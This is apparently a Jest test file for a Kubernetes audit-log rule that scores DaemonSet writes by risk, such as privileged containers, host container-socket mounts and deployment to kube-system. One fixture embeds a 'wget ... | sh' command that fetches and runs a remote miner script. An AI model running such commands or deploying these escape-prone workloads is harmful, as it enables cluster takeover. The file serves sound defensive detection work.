import type { Rule } from '../../../lambdas/core/detect/rule';
import { daemonsetRules } from '../../../lambdas/core/rules/daemonset';
import { FOREIGN_SA, controllerSA, dryRun, failed, fire, plain, privileged, requestReceived, ruleById, severity, workloadWrite } from './support/workloads';

const rule = (id: string): Rule => ruleById(daemonsetRules, id);

describe('daemonset.created-or-changed', () => {
  const r = rule('daemonset.created-or-changed');

  it('rates a plain DaemonSet written by a person medium (persistence is never below medium)', () => {
    const [hit] = fire(r, workloadWrite('daemonsets', plain()));
    expect(hit.severity).toBe('medium');
    expect(hit.summary).toBe('alice@example.com created DaemonSet default/web (runs on every node)');
    expect(severity(r, workloadWrite('daemonsets', plain(), { user: FOREIGN_SA }))).toBe('medium');
  });

  it('raises with what the template does', () => {
    expect(severity(r, workloadWrite('daemonsets', privileged()))).toBe('high');
    expect(severity(r, workloadWrite('daemonsets', { ...plain(), tolerations: [{ operator: 'Exists' }] }))).toBe('medium');
    expect(severity(r, workloadWrite('daemonsets', plain(), { namespace: 'kube-system' }))).toBe('medium');
    const dockerSock = { ...plain(), volumes: [{ name: 's', hostPath: { path: '/var/run/docker.sock' } }] };
    expect(severity(r, workloadWrite('daemonsets', dockerSock))).toBe('critical');
    const miner = { containers: [{ name: 'x', image: 'alpine:3', command: ['sh', '-c', 'wget -qO- http://203.0.113.9/m.sh | sh'] }] };
    expect(severity(r, workloadWrite('daemonsets', miner))).toBe('high');
  });

  it('is critical when several risks come together: privileged, in kube-system, on every node', () => {
    const implant = { ...privileged(), tolerations: [{ operator: 'Exists' }] };
    const [hit] = fire(r, workloadWrite('daemonsets', implant, { namespace: 'kube-system', name: 'kube-proxy-helper' }));
    expect(hit.severity).toBe('critical');
    expect(hit.summary).toBe(
      'alice@example.com created DaemonSet kube-system/kube-proxy-helper (runs on every node): privileged container app, tolerates every taint, in system namespace kube-system',
    );
  });

  it('says the template was not logged instead of passing it as clean', () => {
    const [hit] = fire(r, workloadWrite('daemonsets', privileged(), { level: 'Metadata', namespace: 'kube-system' }));
    expect(hit.severity).toBe('high');
    expect(hit.summary).toBe(
      'alice@example.com created DaemonSet kube-system/web in system namespace kube-system; pod template not logged (audit level Metadata recorded no request body)',
    );
    expect(severity(r, workloadWrite('daemonsets', privileged(), { level: 'Metadata' }))).toBe('medium');
  });

  it('reads template patches and ignores patches that change no template', () => {
    const patch = [{ op: 'add', path: '/spec/template/spec/hostPID', value: true }];
    expect(severity(r, workloadWrite('daemonsets', plain(), { verb: 'patch', level: 'Request', patch }))).toBe('high');
    expect(fire(r, workloadWrite('daemonsets', privileged(), { verb: 'patch', patch: { metadata: { labels: { a: 'b' } } } }))).toEqual([]);
    // A benign template change by a person is a line of information; by a service account, nothing.
    const image = { spec: { template: { spec: { containers: [{ name: 'app', image: 'registry.example.com/app:1.3' }] } } } };
    expect(severity(r, workloadWrite('daemonsets', plain(), { verb: 'patch', patch: image }))).toBe('info');
    expect(fire(r, workloadWrite('daemonsets', plain(), { verb: 'patch', patch: image, user: FOREIGN_SA }))).toEqual([]);
  });

  it('rates a template change by the risks it adds, not those the DaemonSet already had', () => {
    const agent = { ...privileged('agent'), hostNetwork: true, tolerations: [{ operator: 'Exists' }] };
    const bump = { spec: { template: { spec: { containers: [{ name: 'agent', image: 'registry.example.com/agent:2.1' }] } } } };
    // A person bumping the node agent in kube-system: a line, naming what it already had.
    const [hit] = fire(r, workloadWrite('daemonsets', agent, { verb: 'patch', patch: bump, namespace: 'kube-system', name: 'node-agent' }));
    expect(hit.severity).toBe('info');
    expect(hit.summary).toContain('risks it already had: privileged container agent');
    // Flux rolling out the same bump: nothing.
    const flux = {
      username: 'system:serviceaccount:flux-system:kustomize-controller',
      groups: ['system:serviceaccounts', 'system:serviceaccounts:flux-system', 'system:authenticated'],
    };
    expect(fire(r, workloadWrite('daemonsets', agent, { verb: 'patch', patch: bump, namespace: 'kube-system', user: flux }))).toEqual([]);
    // The same identity adding a host mount to it is caught, with where it runs.
    const mount = { spec: { template: { spec: { volumes: [{ name: 'sock', hostPath: { path: '/run/containerd/containerd.sock' } }] } } } };
    const withSock = { ...agent, volumes: [{ name: 'sock', hostPath: { path: '/run/containerd/containerd.sock' } }] };
    expect(severity(r, workloadWrite('daemonsets', withSock, { verb: 'patch', patch: mount, namespace: 'kube-system', user: flux }))).toBe('critical');
  });

  it('is quiet on near misses', () => {
    const e = workloadWrite('daemonsets', privileged());
    expect(fire(r, failed(e))).toEqual([]);
    expect(fire(r, dryRun(e))).toEqual([]);
    expect(fire(r, requestReceived(e))).toEqual([]);
    expect(fire(r, workloadWrite('daemonsets', privileged(), { user: controllerSA('daemon-set-controller'), namespace: 'kube-system' }))).toEqual([]);
    expect(fire(r, workloadWrite('deployments', privileged()))).toEqual([]);
  });
});
